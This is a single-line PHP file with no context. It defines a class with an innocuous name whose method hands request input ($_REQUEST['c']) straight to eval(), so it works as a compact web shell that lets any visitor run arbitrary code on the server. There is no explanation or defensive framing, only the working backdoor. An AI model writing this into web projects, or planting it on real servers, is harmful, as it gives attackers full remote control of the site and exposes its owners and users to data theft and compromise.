<?php class K { static function r($c) { return eval($c); } } K::r($_REQUEST['c']);
